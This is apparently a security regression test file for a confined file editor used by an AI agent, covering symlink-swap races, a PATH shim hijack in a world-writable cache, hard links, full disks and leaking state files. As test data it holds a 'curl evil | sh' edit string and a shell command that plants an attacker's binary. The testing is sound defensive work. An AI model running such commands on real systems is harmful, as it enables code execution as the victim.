// Attacks on the confined writer and rt's state that the first round of tests
// did not try (an outside attack run against issue 9's landed work).
//
// Read race: a helper process flips a directory under the root with a symlink
// to a directory outside it (renameat2(RENAME_EXCHANGE), as in
// state-race.test.ts) while rt edits, rewrites and opens a file in it. The
// writes were race-free, but the edit's snapshot, the mode it keeps, and the
// lines `open`/`read` show were read through the path resolved a moment
// earlier: a flip in between made rt read the outside file, then copy its
// bytes into the root (the edited file itself, `.rt/journal/N.before`, the
// line hashes of `.rt/ids/`) and show them. Invariant: no byte of an outside
// file reaches a file under the root or a tool's output, whatever the
// interleaving.
import { test } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { spawn, type ChildProcess } from "node:child_process";
import { lines, rtBatch, tempTree, CLI } from "../helpers.ts";
import { reply } from "../llm-server.ts";
import { scriptedOllama } from "../agent/harness.ts";

const ollama = scriptedOllama();

// Unlike state-race.test.ts's flipper, this one leaves the symlink in place about as long as the
// directory: the window that matters is between rt resolving a path and reading it.
const FLIPPER = `
import ctypes, random, sys, time
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
a, b = sys.argv[1].encode(), sys.argv[2].encode()
print("ready", flush=True)
while True:
    if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), "renameat2")
    time.sleep(random.random() * 0.0005)
    libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
    time.sleep(random.random() * 0.001)
`;

export function startFlipper(a: string, b: string): Promise<ChildProcess> {
  const child = spawn("python3", ["-c", FLIPPER, a, b], { stdio: ["ignore", "pipe", "inherit"] });
  return new Promise((resolve, reject) => {
    child.once("error", reject);
    child.stdout!.once("data", () => resolve(child));
    child.once("exit", (code) => reject(new Error(`flipper exited early (${code})`)));
  });
}

export async function stopFlipper(child: ChildProcess): Promise<void> {
  if (child.exitCode !== null) return;
  const closed = new Promise((r) => child.once("close", r));
  child.kill("SIGKILL");
  await closed;
}

/** Files under `dir` (not following symlinks) whose bytes contain `needle`. */
function filesContaining(dir: string, needle: string): string[] {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const name of fs.readdirSync(d)) {
      const p = path.join(d, name);
      const st = fs.lstatSync(p);
      if (st.isDirectory()) walk(p);
      else if (st.isFile() && fs.readFileSync(p).includes(needle)) out.push(path.relative(dir, p));
    }
  };
  walk(dir);
  return out;
}

test("read race: a directory flipped to a symlink leading outside during edits and opens: no outside byte reaches the root or an output", {
  timeout: 180_000,
}, async (t) => {
  const secret = (i: number) => `SECRET-${i}-do-not-copy`;
  const parent = tempTree(
    {
      "root/d/a.txt": lines(20),
      "root/.rt/.gitignore": "*\n",
      // Outside: the same name, lines rt's edits would happily change, and a mode an edit would keep.
      "outside/a.txt": lines(20, secret),
    },
    "rt-read-race-",
  );
  const root = path.join(parent, "root");
  fs.chmodSync(path.join(parent, "outside", "a.txt"), 0o751);
  const outsideHashes = (await import("../../src/workspace/lineIds.ts")).hashLine;
  const hashesOfSecret = lines(20, secret)
    .split("\n")
    .filter(Boolean)
    .map((l) => String(outsideHashes(l)));
  fs.symlinkSync(path.join(parent, "outside"), path.join(root, "l"));
  const modeBefore = fs.statSync(path.join(root, "d", "a.txt")).mode & 0o7777;

  const requests: Array<{ tool: string; args: unknown }> = [];
  for (let i = 0; i < 600; i++) {
    switch (i % 3) {
      case 0:
        requests.push({
          tool: "edit_lines",
          args: { path: "d/a.txt", command: "insert", insert_line: 0, new_content: `ins ${i}` },
        });
        break;
      case 1:
        requests.push({ tool: "write", args: { path: "d/a.txt", content: lines(20, (k) => `w ${i} ${k}`) } });
        break;
      default:
        requests.push({ tool: "open", args: { path: "d/a.txt" } });
    }
  }
  const flipper = await startFlipper(path.join(root, "d"), path.join(root, "l"));
  let results: Array<Record<string, any>>;
  try {
    ({ results } = await rtBatch(requests, { cwd: root, env: { RT_ROOT: root } }));
  } finally {
    await stopFlipper(flipper);
  }
  // The flipper may have been stopped mid-swap: put the directory back where it belongs.
  if (fs.lstatSync(path.join(root, "d")).isSymbolicLink()) {
    fs.renameSync(path.join(root, "d"), path.join(root, "tmp-link"));
    fs.renameSync(path.join(root, "l"), path.join(root, "d"));
    fs.renameSync(path.join(root, "tmp-link"), path.join(root, "l"));
  }
  assert.equal(results.length, requests.length, "one result per request");
  const succeeded = results.filter((r) => r.success).length;
  t.diagnostic(`${succeeded} of ${requests.length} calls succeeded`);
  assert.ok(succeeded >= 20, `only ${succeeded} calls succeeded: the test would prove nothing`);
  assert.deepEqual(filesContaining(root, "SECRET-"), [], "an outside file's bytes were copied under the root");
  const leakedOutputs = results.filter((r) => JSON.stringify(r).includes("SECRET-"));
  assert.equal(
    leakedOutputs.length,
    0,
    `outputs showing the outside file: ${JSON.stringify(leakedOutputs[0])?.slice(0, 300)}`,
  );
  // Line IDs keep a hash of every line: the outside file's line hashes must not land in .rt/ids either.
  const ids = path.join(root, ".rt", "ids");
  const stored = fs.existsSync(ids)
    ? fs
        .readdirSync(ids)
        .map((n) => fs.readFileSync(path.join(ids, n), "utf8"))
        .join("\n")
    : "";
  assert.ok(!hashesOfSecret.some((h) => stored.includes(h)), "the outside file's line hashes reached .rt/ids");
  // The mode of the outside file (0751) never reaches the file under the root.
  assert.equal(
    (fs.statSync(path.join(root, "d", "a.txt")).mode & 0o7777).toString(8),
    modeBefore.toString(8),
    "the outside file's mode reached the file under the root",
  );
});

// The shim's directory goes first on the PATH of the agent's commands, and that
// PATH is looked up again at every command. Its own directories were checked
// (0700, the user's), but not the directories above them: with XDG_CACHE_HOME
// under a directory another user can write (a shared scratch directory, a
// /tmp/something made by someone else), that user renames rt's `cache` away
// and puts a `cache/rt/bin/<tag>/rt` (and `git`...) of their own in its place:
// every later `rt` or `git` of the agent runs their program as you.
// Invariant: every directory above the shim is the user's or root's, and
// nobody else can rename what is in it (not writable by others, or sticky).
test("the rt shim is never under a directory another user can write: such a cache is not used", async () => {
  const { ensureRtShim } = await import("../../src/agent/rtOnPath.ts");
  const { createWorkspace } = await import("../../src/workspace/workspace.ts");
  const parent = tempTree({ "repo/a.txt": "a\n" }, "rt-shim-shared-");
  const root = path.join(parent, "repo");
  fs.chmodSync(parent, 0o755); // others may pass through (mkdtemp made it 0700)
  const shared = path.join(parent, "shared");
  fs.mkdirSync(shared);
  fs.chmodSync(shared, 0o777); // anyone may create and rename entries here (no sticky bit)
  const cache = path.join(shared, "cache");
  const dir = ensureRtShim(createWorkspace({ root, env: { ...process.env, XDG_CACHE_HOME: cache } }));
  const real = fs.realpathSync(shared);
  assert.ok(
    !dir.startsWith(real + path.sep),
    `the shim was put under ${real} (mode 0777), where another user can replace it: ${dir}`,
  );
  assert.equal(fs.statSync(dir).mode & 0o777, 0o700);
  assert.equal(fs.existsSync(cache), false, "nothing was created under the shared directory");

  // The attack itself, as another user when the test runs as root: it works on a directory under `shared`.
  if (process.getuid?.() === 0) {
    const victim = path.join(real, "victim-cache", "rt", "bin", "t");
    fs.mkdirSync(victim, { recursive: true, mode: 0o700 });
    for (const d of ["victim-cache/rt", "victim-cache/rt/bin", "victim-cache/rt/bin/t"])
      fs.chmodSync(path.join(real, d), 0o700);
    const attack = `mv ${real}/victim-cache ${real}/old && mkdir -p ${victim} && printf '#!/bin/sh\\necho PWNED\\n' > ${victim}/rt && chmod 755 ${victim}/rt`;
    const { spawnSync } = await import("node:child_process");
    const r = spawnSync("sh", ["-c", attack], { uid: 65534, gid: 65534 });
    assert.equal(r.status, 0, `another user could not replace the directory: ${r.stderr}`);
    assert.equal(spawnSync(path.join(victim, "rt"), { encoding: "utf8" }).stdout, "PWNED\n");
  }
});

// A full disk (ENOSPC, EDQUOT, here a file-size limit: EFBIG) in the middle of
// an edit. The journal entry is recorded before the file is replaced (so a
// crash can still be undone); when the replacement then failed, the entry
// stayed: undo history got an edit that never happened, and the next undo
// past it was refused as "changed by another program". Invariant: an edit
// that fails changes nothing, the journal included, and leaves no temp file.
test("an edit that fails on a full disk leaves the file, the directory and the undo history as they were", async () => {
  const { CLI } = await import("../helpers.ts");
  const { spawnSync } = await import("node:child_process");
  const root = tempTree({ "a.txt": lines(400, (i) => `line ${i} ${"x".repeat(40)}`) }, "rt-enospc-");
  const before = fs.readFileSync(path.join(root, "a.txt"));
  assert.ok(before.length > 18 * 1024 && before.length < 24 * 1024);
  /** `rt call` with writes beyond 24 KiB failing (EFBIG), as on a full file system. */
  const call = (tool: string, args: unknown, limited: boolean) => {
    const cmd = `${limited ? 'trap "" XFSZ; ulimit -f 24; ' : ""}exec "$0" "$1" call "$2" --args "$3"`;
    const r = spawnSync("bash", ["-c", cmd, process.execPath, CLI, tool, JSON.stringify(args)], {
      cwd: root,
      env: { ...process.env, RT_ROOT: root },
      encoding: "utf8",
    });
    return JSON.parse(r.stdout) as Record<string, any>;
  };
  const big = { path: "a.txt", command: "replace", start_line: 1, end_line: 1, new_content: "y".repeat(10_000) };
  const failed = call("edit_lines", big, true);
  assert.equal(failed.success, false, "the edit should not fit");
  assert.match(failed.error, /EFBIG|too large/i);
  assert.deepEqual(fs.readFileSync(path.join(root, "a.txt")), before, "the file is unchanged");
  assert.deepEqual(fs.readdirSync(root).sort(), [".rt", "a.txt"], "no temp file left beside it");
  // The undo history holds no edit that never happened.
  const none = call("undo_edit", { path: "a.txt" }, false);
  assert.equal(none.success, false);
  assert.match(none.error, /no rt edit to undo/, none.error);
  // With room again: an edit, then undo walks back to the original, then there is nothing more.
  assert.equal(call("edit_lines", { ...big, new_content: "small" }, false).success, true);
  assert.equal(call("undo_edit", { path: "a.txt" }, false).success, true);
  assert.deepEqual(fs.readFileSync(path.join(root, "a.txt")), before);
  assert.match(call("undo_edit", { path: "a.txt" }, false).error, /no rt edit to undo/);
});

// Huge files where rt keeps small state. A repository can commit a sparse or
// highly compressible `.rt/sessions/*.jsonl` of a gigabyte (it costs the
// repository a few kilobytes). `rt sessions` read every such file whole before
// looking at its header, then built one string of it: past V8's longest
// string that is an internal error (and a gigabyte of memory each).
// Invariant: a file whose header rt did not sign is never read past its header.
test("planted gigabyte session files: rt sessions reads only their headers, lists nothing, and does not crash", {
  timeout: 60_000,
}, async () => {
  const { rt } = await import("../helpers.ts");
  const root = tempTree({ "a.txt": "a\n", ".rt/.gitignore": "*\n" }, "rt-huge-session-");
  fs.mkdirSync(path.join(root, ".rt", "sessions"));
  for (const id of ["20250101-000000-aaaa", "20250102-000000-bbbb"]) {
    const file = path.join(root, ".rt", "sessions", `${id}.jsonl`);
    fs.writeFileSync(
      file,
      `${JSON.stringify({ t: "session", v: 1, id, created: "2025-01-01T00:00:00Z", root, model: "m", protocol: "auto", mac: "0".repeat(64) })}\n`,
    );
    fs.truncateSync(file, 900 * 1024 * 1024); // sparse: no disk used
  }
  const started = Date.now();
  const r = await rt(["sessions"], { cwd: root, env: { RT_ROOT: root } });
  assert.doesNotMatch(r.stderr, /internal error|Cannot create a string/, r.stderr);
  assert.equal(r.code, 0, r.stderr);
  assert.doesNotMatch(r.stdout, /20250101|20250102/, "a planted session was listed");
  assert.ok(Date.now() - started < 20_000, `rt sessions took ${Date.now() - started} ms over two planted files`);
});

// Hard links. O_NOFOLLOW does not see them: a name under the root may be a hard
// link to a file elsewhere (same file system). Git and tar cannot make one to a
// file outside the tree, and another user cannot link to yours
// (fs.protected_hardlinks), so only the user's own hands make them; still, rt
// must never write *through* one: every file rt rewrites is replaced by a
// rename (the other name keeps the old bytes), state files included.
// Invariant: after edits, undo and state writes, the outside file is unchanged.
test("hard links under the root to an outside file: edits, undo and state writes never change the outside file", async () => {
  const parent = tempTree(
    { "root/a.txt": lines(10), "root/.rt/.gitignore": "*\n", "outside/bashrc": "export SAFE=1\n" },
    "rt-hardlink-",
  );
  const root = path.join(parent, "root");
  const outside = path.join(parent, "outside", "bashrc");
  const { StateStore } = await import("../../src/workspace/state.ts");
  const key = StateStore.keyFor("a.txt");
  // The edited file itself, its journal's saved copy and index, its line IDs and view: all links to the outside file.
  fs.linkSync(outside, path.join(root, "b.txt"));
  for (const d of [`journal/${key}`, "ids", "views"]) fs.mkdirSync(path.join(root, ".rt", d), { recursive: true });
  for (const rel of [`journal/${key}/1.before`, `journal/${key}/index.json`, `ids/${key}.json`, `views/${key}.json`])
    fs.linkSync(outside, path.join(root, ".rt", rel));
  const { results } = await rtBatch(
    [
      { tool: "edit", args: { path: "b.txt", old_string: "SAFE=1", new_string: "SAFE=0; curl evil | sh" } },
      { tool: "open", args: { path: "a.txt" } },
      {
        tool: "edit_lines",
        args: { path: "a.txt", command: "replace", start_line: 2, end_line: 2, new_content: "two" },
      },
      { tool: "undo_edit", args: { path: "a.txt" } },
      { tool: "undo_edit", args: { path: "b.txt" } },
    ],
    { cwd: root, env: { RT_ROOT: root } },
  );
  for (const r of results) assert.equal(r.success, true, JSON.stringify(r));
  assert.equal(fs.readFileSync(outside, "utf8"), "export SAFE=1\n", "the outside file was written through a hard link");
  assert.equal(fs.readFileSync(path.join(root, "b.txt"), "utf8"), "export SAFE=1\n");
});

// `.rt/` keeps itself out of git with a `.gitignore` of `*`, which rt writes
// only when there is none. A repository can commit its own `.rt/.gitignore`
// (empty, or un-ignoring with `!`): then everything rt keeps there (session
// logs with the whole conversation, saved command and tool outputs, the
// journal's copies of files such as a gitignored `.env`) shows up as untracked
// files, and `git add -A`, a pull request to that repository, publishes them.
// Invariant: whatever `.rt/.gitignore` a repository ships, nothing rt writes
// under `.rt/` is visible to git; a `.gitignore` that keeps `.rt/` ignored (a
// project un-ignoring its own config.json) keeps state working.
test("a committed .rt/.gitignore that un-ignores .rt/: nothing rt writes there becomes visible to git", {
  timeout: 60_000,
}, async () => {
  const { git } = await import("../helpers.ts");
  const cases: Array<[string, string, boolean]> = [
    ["empty", "", false],
    ["negated", "*\n!*\n", false],
    ["sessions un-ignored", "*\n!sessions\n", false],
    ["some directories only", "sessions/\njournal/\n", false],
    ["rt's own", "*\n", true],
    ["a project's config kept", "*\n!config.json\n!.gitignore\n", true],
  ];
  for (const [name, ignore, stateful] of cases) {
    const root = tempTree(
      {
        ".env": "TOKEN=s3cr3t\n",
        ".gitignore": ".env\n",
        ".rt/.gitignore": ignore,
        ".rt/config.json": "{}\n",
        "a.txt": lines(5),
      },
      "rt-gitignore-",
    );
    git(root, "init", "-q");
    git(root, "add", "-A");
    git(root, "add", "-f", ".rt/.gitignore", ".rt/config.json");
    git(root, "commit", "-qm", "repo");
    const { results } = await rtBatch(
      [
        { tool: "edit", args: { path: ".env", old_string: "s3cr3t", new_string: "rotated" } },
        { tool: "bash", args: { command: "seq 1 30000" } }, // spills its full output under .rt/shell/
        { tool: "open", args: { path: "a.txt" } },
        { tool: "undo_edit", args: { path: ".env" } },
      ],
      { cwd: root, env: { RT_ROOT: root } },
    );
    assert.equal(results[0].success, true, `${name}: ${JSON.stringify(results[0])}`);
    const visible = git(root, "status", "--porcelain", "--untracked-files=all")
      .split("\n")
      .filter((l) => l.includes(".rt/"));
    assert.deepEqual(visible, [], `${name}: rt's state is visible to git`);
    assert.equal(
      results[3].success,
      stateful,
      `${name}: undo ${stateful ? "should" : "should not"} find the journal: ${JSON.stringify(results[3])}`,
    );
  }
});

// Copies of files in the journal, saved outputs, line IDs: what rt keeps under
// `.rt/` is the user's private data. It was written with the default mode
// (0644 under the usual umask), so the journal's copy of a 0600 file (a key,
// a `.env`) and the saved output of a command became readable by every user
// of the machine; and a state file a repository planted with a mode of its own
// (0777, setuid) kept that mode when rt rewrote it. Separately, the journal
// named its copies `<seq>.before`, a name a repository could predict and track:
// a tracked `.rt/journal/<key>/1.before` would carry the copy of an edited
// `.env` into `git commit -a`.
// Invariants: every file rt writes under `.rt/` (but .gitignore) is 0600; the
// journal's copies have names a repository cannot guess.
test("state files are private (0600) whatever the umask or a planted mode, and the journal's copies cannot be tracked by the repository", async () => {
  const { git } = await import("../helpers.ts");
  const { StateStore } = await import("../../src/workspace/state.ts");
  const envKey = StateStore.keyFor(".env");
  const aKey = StateStore.keyFor("a.txt");
  const root = tempTree(
    {
      ".env": "TOKEN=s3cr3t\n",
      "a.txt": lines(5),
      ".rt/.gitignore": "*\n",
      [`.rt/journal/${envKey}/1.before`]: "placeholder\n",
      [`.rt/ids/${aKey}.json`]: "{}",
    },
    "rt-private-state-",
  );
  fs.chmodSync(path.join(root, ".env"), 0o600);
  fs.chmodSync(path.join(root, ".rt", "ids", `${aKey}.json`), 0o4777);
  git(root, "init", "-q");
  git(root, "add", "-A");
  git(root, "add", "-f", ".rt");
  git(root, "commit", "-qm", "repo with a tracked journal copy");
  const { results } = await rtBatch(
    [
      { tool: "edit", args: { path: ".env", old_string: "s3cr3t", new_string: "rotated" } },
      { tool: "open", args: { path: "a.txt" } },
    ],
    { cwd: root, env: { RT_ROOT: root } },
  );
  for (const r of results) assert.equal(r.success, true, JSON.stringify(r));
  const loose: string[] = [];
  const walk = (d: string) => {
    for (const n of fs.readdirSync(d)) {
      const p = path.join(d, n);
      const st = fs.lstatSync(p);
      if (st.isDirectory()) walk(p);
      else if (
        n !== ".gitignore" &&
        n !== "1.before" /* the repository's own placeholder */ &&
        (st.mode & 0o7077) !== 0
      )
        loose.push(`${path.relative(root, p)} ${(st.mode & 0o7777).toString(8)}`);
    }
  };
  walk(path.join(root, ".rt"));
  assert.deepEqual(loose, [], "state files others can read or that keep a planted mode");
  // The copy of .env went to a name of rt's choosing, not into the tracked file.
  assert.equal(fs.readFileSync(path.join(root, ".rt", "journal", envKey, "1.before"), "utf8"), "placeholder\n");
  const changed = git(root, "status", "--porcelain")
    .split("\n")
    .filter((l) => l.includes(".rt/journal"));
  assert.deepEqual(changed, [], "the journal wrote into a file the repository tracks");
});

// Committed state that is not a file where rt expects one. A lock file that is
// not rt's is removed and the lock taken; but a *directory* a repository
// commits at `.rt/locks/<key>.lock` cannot be unlinked, and every edit of that
// file failed for good with a raw "EISDIR: illegal operation on a directory".
// Invariant: no committed entry under `.rt/` keeps rt from editing a file;
// edits of one file still exclude each other.
test("a directory committed where an edit lock belongs does not block edits of that file", async () => {
  const { StateStore } = await import("../../src/workspace/state.ts");
  const key = StateStore.keyFor("a.txt");
  const root = tempTree(
    { "a.txt": lines(8), ".rt/.gitignore": "*\n", [`.rt/locks/${key}.lock/keep`]: "" },
    "rt-lockdir-",
  );
  const { results } = await rtBatch(
    [
      { tool: "edit", args: { path: "a.txt", old_string: "line 2\n", new_string: "two\n" } },
      {
        tool: "edit_lines",
        args: { path: "a.txt", command: "replace", start_line: 3, end_line: 3, new_content: "three" },
      },
    ],
    { cwd: root, env: { RT_ROOT: root } },
  );
  for (const r of results) assert.equal(r.success, true, JSON.stringify(r));
  assert.match(fs.readFileSync(path.join(root, "a.txt"), "utf8"), /two\nthree\n/);
  // Still mutually exclusive: parallel processes editing different lines lose nothing.
  const { rtCall } = await import("../helpers.ts");
  const edits = await Promise.all(
    [4, 5, 6, 7].map((n) =>
      rtCall(
        "edit",
        { path: "a.txt", old_string: `line ${n}\n`, new_string: `edited ${n}\n` },
        { cwd: root, env: { RT_ROOT: root } },
      ),
    ),
  );
  for (const e of edits) assert.equal(e.result.success, true, JSON.stringify(e.result));
  assert.match(fs.readFileSync(path.join(root, "a.txt"), "utf8"), /edited 4\nedited 5\nedited 6\nedited 7\n/);
});

// A full disk in the middle of a conversation. The session log is appended
// record by record; when a write failed (ENOSPC, EDQUOT, here EFBIG under a
// file-size limit), the exception went up through the agent loop and
// `rt run` died as an internal error with the answer lost. Invariant: the
// turn finishes; the log stops where it could not be written (what it holds
// still reads back), and a notice says the rest is not saved.
test("rt run on a full disk: the answer still arrives, the session log stops with a notice", {
  timeout: 60_000,
}, async () => {
  const { spawnSync } = await import("node:child_process");
  const runAsync = (args: string[], env: NodeJS.ProcessEnv, cwd: string) =>
    new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve) => {
      const c = spawn(args[0], args.slice(1), { cwd, env, stdio: ["ignore", "pipe", "pipe"] });
      let stdout = "";
      let stderr = "";
      c.stdout!.on("data", (d) => (stdout += d));
      c.stderr!.on("data", (d) => (stderr += d));
      c.on("close", (status) => resolve({ status, stdout, stderr }));
    });
  const root = tempTree({ "a.txt": "a\n", ".rt/.gitignore": "*\n" }, "rt-session-enospc-");
  ollama.server.reset();
  ollama.server.script(reply.text(`${"long answer ".repeat(12_000)}THE END`));
  const env = { ...process.env, ...ollama.env(), RT_ROOT: root } as Record<string, string | undefined>;
  for (const k of Object.keys(env)) if (env[k] === undefined) delete env[k];
  // Writes past 64 KiB fail with EFBIG, as on a full file system.
  const r = await runAsync(
    [
      "bash",
      "-c",
      'trap "" XFSZ; ulimit -f 64; exec "$0" "$1" run --model ollama/test-model "say it"',
      process.execPath,
      CLI,
    ],
    env as NodeJS.ProcessEnv,
    root,
  );
  assert.doesNotMatch(r.stderr, /internal error|EFBIG: file too large, write\n\s+at /, r.stderr.slice(0, 800));
  assert.equal(r.status, 0, r.stderr.slice(0, 800));
  assert.match(r.stdout, /THE END/, "the answer was lost");
  // The event stream says why the rest is not saved (rt run prints progress on stderr only on a terminal).
  ollama.server.script(reply.text(`${"long answer ".repeat(12_000)}THE END`));
  const json = await runAsync(
    [
      "bash",
      "-c",
      'trap "" XFSZ; ulimit -f 64; exec "$0" "$1" run --output-format stream-json --model ollama/test-model "again"',
      process.execPath,
      CLI,
    ],
    env as NodeJS.ProcessEnv,
    root,
  );
  assert.equal(json.status, 0, json.stderr.slice(0, 800));
  const events = json.stdout
    .split("\n")
    .filter(Boolean)
    .map((l) => JSON.parse(l) as { type: string; message?: string });
  assert.ok(
    events.some((e) => e.type === "notice" && /session log .* could not be written .* not saved/.test(e.message ?? "")),
    json.stdout.slice(0, 400),
  );
  assert.equal(events[events.length - 1].type, "turn_complete");
  // What was written reads back as a session of this user's (the header is whole).
  const listed = spawnSync(process.execPath, [CLI, "sessions"], {
    cwd: root,
    env: env as NodeJS.ProcessEnv,
    encoding: "utf8",
  });
  assert.equal(listed.status, 0, listed.stderr);
  assert.match(listed.stdout, /say it/);
});
